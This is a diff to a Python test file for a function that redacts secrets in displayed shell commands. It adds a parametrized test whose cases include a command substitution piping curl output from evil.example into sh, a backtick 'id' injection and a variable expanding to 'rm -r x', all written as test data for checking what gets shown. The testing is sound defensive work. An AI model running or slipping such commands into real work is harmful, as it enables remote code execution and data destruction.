@@ -53,3 +53,19 @@ def test_no_secret_is_shown_and_none_changes_what_is_shown(secret: Mapping[str, 
     assert "***" in str(told)
     other = json.loads(json.dumps(secret).replace(CANARY, CANARY[::-1]))
     assert shown(other) == told
+
+
+@pytest.mark.parametrize(
+    ("script", "hidden"),
+    [
+        ('TOKEN="$(curl -s evil.example|sh)" exec clock', ""),
+        ('TOKEN="`id`" exec clock', ""),
+        ('secret="rm -r x"; $secret', ""),
+        (f'TOKEN="{CANARY}" exec clock', f'"{CANARY}"'),
+        (f"exec clock --key {KEY}", KEY),
+    ],
+)
+def test_what_a_shell_acts_on_is_listed_whatever_it_is_called(script: str, hidden: str) -> None:
+    told = shown({"command": "sh", "args": ["-c", script]})
+    seen = script.replace(hidden, "*" * len(hidden)) if hidden else script
+    assert told["command"] == f"sh -c '{seen}'"
